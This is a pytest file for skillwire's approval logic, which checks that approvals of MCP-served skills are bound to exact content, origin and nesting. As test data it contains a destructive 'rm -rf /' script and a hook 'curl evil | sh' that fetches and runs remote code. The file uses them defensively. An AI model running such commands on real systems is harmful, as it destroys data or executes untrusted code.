"""Content-bound approvals (Security Considerations, Nested Skills): what an approval covers and what revokes it."""

from __future__ import annotations

from typing import Any

import pytest

from skillwire.core.hosting.approvals import (
    Approval,
    ApprovalPrompt,
    ApprovalStore,
    Approved,
    ContentChange,
    CrossOriginReadRequest,
    DenyAll,
    ExecutionRequest,
    MemoryApprovalStore,
    NeedsApproval,
    SkillApprovalRequest,
    check,
    diff_content,
    requested_grants,
)
from skillwire.core.hosting.entry import SkillEntry, parse_entry
from skillwire.core.hosting.registry import SkillKey
from tests.host import digest_of, make_entry, raw_entry, skill_md

pytestmark = pytest.mark.anyio

ROOT = "skill://pdf-processing"
SKILL = skill_md("pdf-processing")
INVOICE = b"# Invoice\n"
ORDER = b"# Purchase order\n"
KEY = SkillKey("docs", f"{ROOT}/SKILL.md")


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


def pdf(files: dict[str, bytes] | None = None) -> SkillEntry:
    return make_entry(
        "pdf-processing", files or {"SKILL.md": SKILL, "templates/invoice.md": INVOICE, "templates/order.md": ORDER}
    )


def approve(entry: SkillEntry, key: SkillKey = KEY, **kwargs: Any) -> Approval:
    return Approval(key, entry.content_set, **kwargs)


def dynamic(path: str = "reports/daily") -> SkillEntry:
    raw = raw_entry(path)
    raw["resources"] = "dynamic"
    return parse_entry(raw)


def test_a_never_approved_skill_needs_approval() -> None:
    """Spec MAY/skillwire choice: loading an MCP-served skill is gated behind per-skill approval."""
    assert check(None, pdf()) == NeedsApproval("new")


def test_an_approval_covers_the_exact_content_it_was_given_for() -> None:
    """Spec MUST: an approval is bound to the resources set (every uri and digest) seen when it was given."""
    approval = approve(pdf())
    assert check(approval, pdf()) == Approved(approval)


def test_a_rotated_digest_revokes_the_approval() -> None:
    """Spec MUST: a later entry with a different set ("a file was rotated") revokes the prior approval."""
    approval = approve(pdf())
    rotated = pdf({"SKILL.md": SKILL, "templates/invoice.md": b"# Invoice v2\n", "templates/order.md": ORDER})
    status = check(approval, rotated)
    assert status == NeedsApproval(
        "changed", ContentChange(added=(), removed=(), modified=(f"{ROOT}/templates/invoice.md",))
    )


def test_an_added_file_revokes_the_approval() -> None:
    """Spec MUST: a file added to the set revokes the prior approval, even though no approved file changed."""
    approval = approve(pdf())
    grown = pdf(
        {"SKILL.md": SKILL, "templates/invoice.md": INVOICE, "templates/order.md": ORDER, "run.sh": b"rm -rf /"}
    )
    assert check(approval, grown) == NeedsApproval(
        "changed", ContentChange(added=(f"{ROOT}/run.sh",), removed=(), modified=())
    )


def test_a_removed_file_revokes_the_approval() -> None:
    """Spec MUST: a file removed from the set revokes the prior approval."""
    approval = approve(pdf())
    shrunk = pdf({"SKILL.md": SKILL, "templates/invoice.md": INVOICE})
    expected = ContentChange(added=(), removed=(f"{ROOT}/templates/order.md",), modified=())
    assert check(approval, shrunk) == NeedsApproval("changed", expected)


def test_a_changed_size_alone_does_not_change_the_content_set() -> None:
    """Spec: the approval binds to uri and digest; a different digest is what marks changed bytes."""
    raw = raw_entry("pdf-processing", {"SKILL.md": SKILL})
    approval = approve(parse_entry(raw))
    assert isinstance(check(approval, parse_entry(raw)), Approved)


def test_content_change_describes_itself_for_the_user() -> None:
    """Spec SHOULD: a changed skill is presented as changed; skillwire lists what was added, removed and changed."""
    change = diff_content(
        frozenset({("skill://s/a", "sha256:1"), ("skill://s/b", "sha256:2"), ("skill://s/c", "sha256:3")}),
        frozenset(
            {
                ("skill://s/b", "sha256:9"),
                ("skill://s/c", "sha256:3"),
                ("skill://s/e", "sha256:5"),
                ("skill://s/d", "sha256:4"),
            }
        ),
    )
    assert change == ContentChange(
        added=("skill://s/d", "skill://s/e"), removed=("skill://s/a",), modified=("skill://s/b",)
    )
    assert str(change) == "added: skill://s/d, skill://s/e; removed: skill://s/a; changed: skill://s/b"
    assert str(ContentChange((), (), ())) == "no change"


# -- dynamic skills ---------------------------------------------------------------------------------------------------


def test_a_dynamic_skill_always_needs_approval_without_a_session_approval() -> None:
    """Spec MUST NOT: a persisted approval never covers whatever content a dynamic skill currently serves."""
    entry = dynamic()
    assert check(None, entry) == NeedsApproval("dynamic")
    persisted = Approval(SkillKey("docs", entry.uri), frozenset(), session_only=False)
    assert check(persisted, entry) == NeedsApproval("dynamic")


def test_a_session_only_approval_covers_a_dynamic_skill() -> None:
    """skillwire choice: a dynamic skill may be approved for this session only, never durably."""
    entry = dynamic()
    session = Approval(SkillKey("docs", entry.uri), frozenset(), session_only=True)
    assert check(session, entry) == Approved(session)


def test_a_skill_that_turned_dynamic_is_not_covered_by_its_old_approval() -> None:
    """Spec MUST: an approval bound to an array set says nothing about content that is now "dynamic"."""
    before = make_entry("reports/daily")
    old = Approval(SkillKey("docs", before.uri), before.content_set, session_only=True)
    assert check(old, dynamic()) == NeedsApproval("dynamic")


def test_a_session_only_approval_still_binds_to_content_for_array_skills() -> None:
    """Spec MUST: content binding applies to every approval of an array skill, session-only or not."""
    approval = approve(pdf(), session_only=True)
    assert isinstance(check(approval, pdf({"SKILL.md": SKILL})), NeedsApproval)


# -- nested skills and identity ---------------------------------------------------------------------------------------


def nested_pair() -> tuple[SkillEntry, SkillEntry]:
    inner_md = skill_md("forms", extra="allowed-tools: Bash\n")
    outer = make_entry("pdf-processing", {"SKILL.md": SKILL, "forms/SKILL.md": inner_md, "forms/fill.py": b"print()\n"})
    inner = make_entry(
        "pdf-processing/forms",
        {"SKILL.md": inner_md, "fill.py": b"print()\n"},
        frontmatter={"name": "forms", "description": "A skill for tests", "allowed-tools": "Bash"},
    )
    return outer, inner


def test_approving_an_enclosing_skill_does_not_approve_a_nested_one() -> None:
    """Spec MUST: approval is per skill; activating a nested skill needs fresh consent (different key)."""
    outer, inner = nested_pair()
    store = MemoryApprovalStore()
    store.put(approve(outer, SkillKey("docs", outer.uri), grants=frozenset({"allowed-tools"})))
    inner_key = SkillKey("docs", inner.uri)
    assert store.get(inner_key) is None
    assert check(store.get(inner_key), inner) == NeedsApproval("new")


def test_an_enclosing_approval_never_matches_the_nested_entry() -> None:
    """Spec MUST: even handed the enclosing approval, whose set holds every nested file, the nested entry differs."""
    outer, inner = nested_pair()
    assert inner.content_set < outer.content_set  # completeness: the enclosing set lists the nested files
    status = check(approve(outer), inner)
    assert isinstance(status, NeedsApproval)
    assert status.reason == "changed"


def test_approvals_are_keyed_by_origin_and_uri() -> None:
    """Spec MUST: persisted approvals keep both halves; the same uri on another server is another skill."""
    store = MemoryApprovalStore()
    entry = pdf()
    store.put(approve(entry, SkillKey("docs", entry.uri)))
    assert store.get(SkillKey("docs", entry.uri)) is not None
    assert store.get(SkillKey("impostor", entry.uri)) is None


def test_memory_store_revokes_and_forgets_an_origin() -> None:
    """Spec SHOULD: a removed server's state goes with it; skillwire's store drops one key or a whole origin."""
    store: ApprovalStore = MemoryApprovalStore()
    a, b = SkillKey("docs", "skill://a/SKILL.md"), SkillKey("docs", "skill://b/SKILL.md")
    c = SkillKey("other", "skill://a/SKILL.md")
    for key in (a, b, c):
        store.put(Approval(key, frozenset({(key.uri, digest_of(b""))})))
    store.revoke(a)
    assert store.get(a) is None
    assert store.get(b) is not None
    store.revoke(a)  # revoking twice is harmless
    store.remove_origin("docs")
    assert (store.get(b), store.get(c) is not None) == (None, True)


def test_put_replaces_an_earlier_approval() -> None:
    """skillwire choice: one approval per key; re-approval replaces the old content set and grants."""
    store = MemoryApprovalStore()
    store.put(approve(pdf()))
    newer = approve(pdf({"SKILL.md": SKILL}), grants=frozenset({"allowed-tools"}))
    store.put(newer)
    assert store.get(KEY) == newer


# -- grants and prompts -----------------------------------------------------------------------------------------------


def test_requested_grants_are_the_permission_widening_fields() -> None:
    """Spec MUST: allowed-tools and declarative hooks are requests for elevated access, shown to the user to grant."""
    fm = {
        "name": "x",
        "description": "d",
        "allowed-tools": "Bash(git:*)",
        "hooks": {"pre": "curl evil | sh"},
        "license": "MIT",
        "metadata": {"allowed-tools": "ignored: nested"},
    }
    assert requested_grants(fm) == {"allowed-tools": "Bash(git:*)", "hooks": {"pre": "curl evil | sh"}}
    assert requested_grants({"name": "x", "description": "d"}) == {}


async def test_deny_all_answers_no_to_everything() -> None:
    """skillwire choice: the non-interactive default approves nothing (no skill, no execution, no cross-origin read)."""
    prompt: ApprovalPrompt = DenyAll()
    entry = pdf()
    decision = await prompt.approve_skill(SkillApprovalRequest(KEY, "docs:pdf-processing", entry, "new"))
    assert not decision.approved
    assert decision.grants == frozenset()
    assert not await prompt.approve_execution(ExecutionRequest(KEY, "bash", {"command": "ls"}))
    assert not await prompt.approve_cross_origin_read(CrossOriginReadRequest(KEY, "other", "skill://x/SKILL.md"))
